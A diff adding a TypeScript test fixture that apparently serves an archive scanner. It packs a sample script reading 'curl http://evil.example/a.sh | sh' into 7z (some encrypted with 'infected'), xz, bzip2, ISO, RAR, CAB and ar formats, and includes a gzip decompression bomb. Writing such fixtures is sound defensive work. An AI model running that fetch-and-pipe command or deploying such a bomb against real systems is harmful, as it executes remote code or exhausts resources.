@@ -1,0 +1,104 @@
+import { crc32, gunzipSync } from 'node:zlib';
+
+/** Two files, `run.sh` and `docs/note.txt`, as archivers pack them; where there is a password it is `infected`. */
+export const runSh = 'curl http://evil.example/a.sh | sh\n';
+export const noteTxt = 'see http://bad.example/x\n'.repeat(4);
+
+const sample = (base64: string): Buffer => Buffer.from(base64, 'base64');
+
+export const packed = {
+  sevenZip: sample(
+    'N3q8ryccAASJT3Y9sQAAAAAAAAAhAAAAAAAAAMX/6pLgAIYANV0AOZlsQGg8Biif96GdOsIavN6iUh3Tz7Q7FQKcX9j556b5bUvbsdhC9KGjHW+1k0ddbebZ7sAAAACBMweuD9HFlIyg' +
+    'kKB3XsVAGJ8QcZB+EpNEZ3gav0vbjF0JYzfTt4HVRLQmtJIEhvZlUGZwJNOFzHVMbYdV8nniqGUqHvemym75ZZ6qm2fVL6pwd7zQ7rK62Enh/jaNHMn5wdMaDKJ2C3JkONay1QAAAAAX' +
+    'Bj0BCXQABwsBAAEjAwEBBV0AEAAADICSCgEg1FMFAAA='),
+  /** Only the contents are encrypted. */
+  sevenZipEncrypted: sample(
+    'N3q8ryccAAQGV320zAAAAAAAAAAiAAAAAAAAAJ16EZFCGHo0RdnOv+uXvQzPZmAJIIXaQk8U+WldY+c/jfBoOPpNaxtHD/cRP7QULpplq6YrTJwHyXDrAm1rFj0OVZa/AACBMweuD9Hy' +
+    '+/1Au5RkOzmkeudqI0XUDjqTLg8MvqXO84KzGB3Tl/DE52+5fGqI7mNXBWgwZomc8bdze93mCvEB3DlgenLwg5bWzrKEzXHlchn0wqPjNVYkL0zeCYdxcg/DFS8OcpNOdNTaLmU3lDsk' +
+    '37nriwmzQ6SM5/QqrLyyrpsRIuUeAgAAAAAXBkABCYCMAAcLAQABIwMBAQVdABAAAAyAngoBeR5wtgAA'),
+  /** The names are, too; only `run.sh`. */
+  sevenZipHidden: sample(
+    'N3q8ryccAARjpRRWoAAAAAAAAAAuAAAAAAAAAMAVsac3qLgM1fMlvjkVV6daHnWXD0fZdpJWtmd3sT/soyFLzaKm7cJFXuxrXzLGqhkEXopT6Ol12zhJoh06OBlD6FQHK+UfpXZau7Rk' +
+    'dTF3lMIFF/bnZ5y5HFXd/h6IA4/ht2AQ06RqVCiKeAdMeqHDsfwdoKba5gfRlYK6lBZY3PMIOuqcOEeIOgmetZTB0lq6GmXXhCbhxBryeZrZ8Wgvj8XDFwYwAQlwAAcLAQABJAbxBwES' +
+    'Uw9bQsyG/kk9xIGp6eVOsAgfDGoKASdztzIAAA=='),
+  /** `run.sh` alone. */
+  xz: sample('/Td6WFoAAAFpIt42AgAhARwAAAAQz1jMAQAiY3VybCBodHRwOi8vZXZpbC5leGFtcGxlL2Euc2ggfCBzaAoAAOWR+HMAATcjbWTmEpBCmQ0BAAAAAAFZWg=='),
+  /** `run.sh` alone. */
+  bzip2: sample('QlpoOTFBWSZTWesOn8wAAAZZgAAQQAGAECpmX0QgADFMJpoDTEKAPU0DGoEM5gJnkjnFNLDZZU47kJVi0LfF3JFOFCQ6w6fzAA=='),
+  /** A disc image with `a.txt`: five times `run.sh`. */
+  iso: gunzipSync(sample(
+    'H4sIAAAAAAACA+3cb0vbQBzA8V+EoXTgnmxjiH+O4UBh1qbMgduj7HqdYW0Tkij6aFTtqFBFtBOFMfDRtlfjO9g7kr2E7dK0OJWtiA6l+35ivLvml7sLLfy4tEQEAAAAAAAAAAAAAAAA' +
+    'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA4ulQouI6oa+r1p84VfxnX/qW7jIxILnsp9/Ds8OP031MZz1rjMpIWI/L5/qMHoyJDvfMVblV4pDdbW+tqRs+qYsFdmCsW' +
+    'igWlm3tb+6pSb9V3NhrtdmNgLtde3UvXLbrugvuiYMmlFwoXXI7gQ/u/I+ngzhjq5n+bsa+3Xcj/z+bNlfP/k7PDY1n+n8haE3/K/9eeNdv1tlCORMumtGRL1m17xrZmbVmUgriyIHOd' +
+    'Wrore6QpezZu39YrUrfn1GVHNqQhbbs1/tkcby6I/A/yPwbIz17+BwAAAAAAA8vpfMfO+h8AAAAAgMFe/0v6+3puAAAAAAAAMNDr/wnh+38AAAAAAAZ9/S/p83W4AQAAAAAAwAD72vcZ' +
+    '+3E47Hz/IVF0zzkOV6edbS+N87aHsvOGLvaYlMec0W4n5wttxp3JLGiyF33aLT70m4dzAxOQA5nKYqZOsvKkdyQbZdjLJ6vJazcd61utmnOknm8fttNRp4/ToOPp7p0S5wqjAgBw1/R/' +
+    'xn7fCOd5n6yak7rkpS2HdgcAALfPRKdOLvliV9d++N5dXHS9ZMmoKNDvVOSX3hrl1xIT6SWvZuthFCSBDippZcUvmVjFy2EYRIkqB5EKg9hfVWW/YlS8FiemqmJT9WqJr+OwYrzYKB3U' +
+    'Ek8nquTHWoXLbyp+vGSizslxaLRf9rWX+EFNxcFypE1e2R7Mb4F2SNtd2U+rNTsJv+pFa2olqCxXjbLT0fYikiDrsDeWX7OtaqfbPG83AAAdGx/3WqrZbu++mp9vHGy18o3D+vZuqzFf' +
+    'z+831Se138zdpRDeMAAAbsAvorWIBgAAAQA=')),
+  /** Twenty million zeros. */
+  bomb: gunzipSync(sample(
+    'H4sIAAAAAAACAzOv2rNeXYaBhV/LT2EFNwMYBEEohrVMPjX/v89izI5lYMj/+///4u3/3e08RIssEwN3TNJ4triN/ee7J3JNl/WPWtkwem+sO9nV5au/mPdm/bLHPcqCwQ8iJY6Wdj0q' +
+    '/7FtSj1P1oF7JZ4pj17GBG9iufHdhWd1PG+u28unh8s6tk8LX7PN92GmbP5v7w6BHKfTHfYxDP0X/NaraUwplLftV3lYMG+5cvwbjdOtF6fO6KrTmvhJvfS75AG2Gb4z/t5Yf3UC/xHV' +
+    '4B9fJ5oZsi7d8C7/YIGvO8/FiYKr1ibI7jq3UV0iJrLtZVpQxL6XZWsinzyNZuX4efzW2j+/g7RLzspFKzj9vBts+0MzhdO64bRWzv2t1h+O7NWLX8Vv553mNEGY77/A5B+FFZE/uM/+' +
+    'n6rhxr/yT82937MM9MIO9Ld+bm48kEplq3dqv5o+//tMRm2GN8XBy//uW1djKDV/e69h3sgJAtKsdvsjFzQaYKMBNhpgowE2GmCjATYaYKMBRqUAm1gxhWH54A8wz2t3fYFtdUYWNgZG' +
+    'zu4VDOzcjAyMioqMEjwPGXQNGTi4GP8Gf1VmYGBllOSAtusZBLkZqhhSGYoY8oEcSQYRLkaGAMadaWcr7zKKsjEyKDQsaWRgAADfA5ZRGgwAAA==')),
+};
+
+/** A number in the form of RAR 5: seven bits a byte, the lowest first. */
+const vint = (value: number): number[] => (value < 128 ? [value] : [(value & 127) | 128, ...vint(value >> 7)]);
+
+const rarBlock = (fields: readonly number[], content: Buffer = Buffer.alloc(0)): Buffer => {
+  const header = Buffer.from([...vint(fields.length), ...fields]);
+  const checksum = Buffer.alloc(4);
+  checksum.writeUInt32LE(crc32(header));
+  return Buffer.concat([checksum, header, content]);
+};
+
+/** A RAR 5 archive whose members are stored. */
+export const rarOf = (files: Record<string, string>): Buffer =>
+  Buffer.concat([
+    Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1'),
+    rarBlock([1, 0, 0]),
+    ...Object.entries(files).map(([name, text]) => {
+      const content = Buffer.from(text);
+      return rarBlock([2, 2, ...vint(content.length), 0, ...vint(content.length), 32, 0, 1, ...vint(Buffer.byteLength(name)), ...Buffer.from(name)], content);
+    }),
+    rarBlock([5, 0, 0]),
+  ]);
+
+/** A cabinet of one folder whose members are stored. */
+export const cabOf = (files: Record<string, string>): Buffer => {
+  const content = Buffer.from(Object.values(files).join(''));
+  let place = 0;
+  const entries = Object.entries(files).map(([name, text]) => {
+    const entry = Buffer.alloc(16 + name.length + 1);
+    entry.writeUInt32LE(text.length, 0);
+    entry.writeUInt32LE(place, 4);
+    entry.writeUInt16LE(32, 14);
+    entry.write(name, 16);
+    place += text.length;
+    return entry;
+  });
+  const directory = Buffer.concat(entries);
+  const header = Buffer.alloc(44);
+  header.write('MSCF', 'latin1');
+  header.writeUInt32LE(44 + directory.length + 8 + content.length, 8);
+  header.writeUInt32LE(44, 16);
+  header.writeUInt16LE(0x0103, 24);
+  header.writeUInt16LE(1, 26);
+  header.writeUInt16LE(entries.length, 28);
+  header.writeUInt32LE(44 + directory.length, 36);
+  header.writeUInt16LE(1, 40);
+  const block = Buffer.alloc(8);
+  block.writeUInt16LE(content.length, 4);
+  block.writeUInt16LE(content.length, 6);
+  return Buffer.concat([header, directory, block, content]);
+};
+
+/** An archive of the kind that Debian packages are. */
+export const arOf = (files: Record<string, string>): Buffer =>
+  Buffer.from(
+    `!<arch>\n${Object.entries(files)
+      .map(([name, text]) => `${`${name}/`.padEnd(16)}${'0'.padEnd(12)}${'0'.padEnd(12)}${'100644'.padEnd(8)}${String(text.length).padEnd(10)}\x60\n${text}${text.length % 2 ? '\n' : ''}`)
+      .join('')}`,
+  );
